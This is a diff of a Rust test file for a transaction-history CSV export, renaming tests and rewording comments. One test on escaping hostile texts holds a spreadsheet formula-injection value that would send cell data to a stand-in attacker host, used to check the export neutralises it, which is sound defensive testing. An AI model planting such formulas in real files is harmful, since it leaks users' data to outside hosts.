@@ -1,4 +1,4 @@
-//! What is in a file.
+//! Contents of the files.
 
 use std::{
     io::Write,
@@ -19,7 +19,7 @@ use shared::{
 
 use crate::{BEGUN, all, ask, file, make, row, run, second, somebody, swaps, with_swaps};
 
-/// What Python's `csv` module reads: rows of cells.
+/// The rows of cells that Python's `csv` module reads.
 fn read(text: &str) -> Vec<Vec<String>> {
     let program = "import csv, io, json, sys; text = sys.stdin.buffer.read().decode(); \
                    json.dump(list(csv.reader(io.StringIO(text, newline=''), strict=True)), sys.stdout)";
@@ -35,14 +35,14 @@ fn read(text: &str) -> Vec<Vec<String>> {
     serde_json::from_slice(&output.stdout).unwrap()
 }
 
-/// The column of that name, without its head.
+/// The cells of a column, without its header.
 fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
     let place = rows[0].iter().position(|head| head == name).unwrap();
     rows[1..].iter().map(|row| row[place].clone()).collect()
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn thirty_thousand_rows_are_one_file_of_several_parts() {
+async fn thirty_thousand_rows_make_one_file_from_several_parts() {
     const COUNT: u64 = 30_000;
     let stack = LocalStack::start().await;
     let account = somebody();
@@ -65,7 +65,7 @@ async fn thirty_thousand_rows_are_one_file_of_several_parts() {
     let rows = read(&text);
     assert_eq!(rows.len() as u64, COUNT + 1);
     let amounts = column(&rows, "inputAmount");
-    assert!((1..=COUNT).map(|n| n.to_string()).eq(amounts), "each once, oldest first");
+    assert!((1..=COUNT).map(|n| n.to_string()).eq(amounts), "each row once, oldest first");
     let times = column(&rows, "createdAt");
     assert_eq!(times[0], "2026-01-01T00:00:00.000Z");
     assert_eq!(times[COUNT as usize - 1], "2026-01-01T08:19:59.000Z");
@@ -74,7 +74,7 @@ async fn thirty_thousand_rows_are_one_file_of_several_parts() {
 }
 
 #[tokio::test]
-async fn no_rows_are_a_file_with_a_head() {
+async fn an_empty_history_makes_a_file_with_a_header() {
     let stack = LocalStack::start().await;
     for (kind, chain, first) in [
         (HistoryType::Swap, None, "id,type,"),
@@ -92,7 +92,7 @@ async fn no_rows_are_a_file_with_a_head() {
     }
 }
 
-/// Three swaps and two withdrawals, by turns.
+/// Three swaps alternating with two withdrawals.
 async fn mixed(stack: &LocalStack) -> shared::models::account::AccountId {
     let account = somebody();
     histories::plant(stack, account, 5, |place| {
@@ -107,7 +107,7 @@ async fn mixed(stack: &LocalStack) -> shared::models::account::AccountId {
 }
 
 #[tokio::test]
-async fn a_filter_is_of_type_and_chain() {
+async fn filters_select_by_type_and_chain() {
     let stack = LocalStack::start().await;
     let account = mixed(&stack).await;
     let bitcoin = Some(HistoryChain::Bitcoin);
@@ -129,7 +129,7 @@ async fn a_filter_is_of_type_and_chain() {
 }
 
 #[tokio::test]
-async fn a_time_has_both_of_its_ends() {
+async fn both_ends_of_the_time_range_are_inclusive() {
     let stack = LocalStack::start().await;
     let account = mixed(&stack).await;
     let ms = |place: u64, ms: u64| second(place).plus(Duration::from_millis(ms));
@@ -151,9 +151,9 @@ async fn a_time_has_both_of_its_ends() {
     }
 }
 
-/// What comes later is in no file that was asked for before.
+/// Rows created after the request are not in the file.
 #[tokio::test]
-async fn rule_13_a_row_of_another_account_is_in_no_file() {
+async fn custody_13_a_file_has_no_rows_of_other_accounts() {
     let stack = LocalStack::start().await;
     let (account, other) = (somebody(), somebody());
     histories::plant(&stack, account, 5, |place| {
@@ -189,9 +189,9 @@ async fn a_file_is_a_snapshot() {
     assert!(matches!(key, XchainKey::Withdrawal(_)));
 }
 
-/// Nothing in a file is run by what opens it, and nothing is lost.
+/// Spreadsheets execute nothing in a file, and no text is altered.
 #[tokio::test]
-async fn hostile_texts_are_inert_and_whole() {
+async fn hostile_texts_are_escaped_and_complete() {
     let stack = LocalStack::start().await;
     let texts = [
         "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
@@ -234,9 +234,9 @@ async fn hostile_texts_are_inert_and_whole() {
     assert!(rows.iter().all(|row| row.len() == rows[0].len()));
 }
 
-/// A member whose row is gone is left out; the others are there.
+/// A member whose row is deleted is left out; the others are in the file.
 #[tokio::test]
-async fn rows_that_are_gone_are_left_out() {
+async fn deleted_rows_are_left_out() {
     let stack = LocalStack::start().await;
     let account = mixed(&stack).await;
     let gone = histories::swap(account, 2, second(2)).key().unwrap();
@@ -247,9 +247,9 @@ async fn rows_that_are_gone_are_left_out() {
     assert_eq!(row(&stack, &export).await.row_count, 4);
 }
 
-/// The list shows how far a file is before it is there.
+/// The list shows the progress of a file before it is complete.
 #[tokio::test(flavor = "multi_thread")]
-async fn progress_is_seen() {
+async fn the_list_shows_progress() {
     let stack = LocalStack::start().await;
     let export = ask(&stack, with_swaps(&stack, 9_000), swaps()).await;
     let work = {
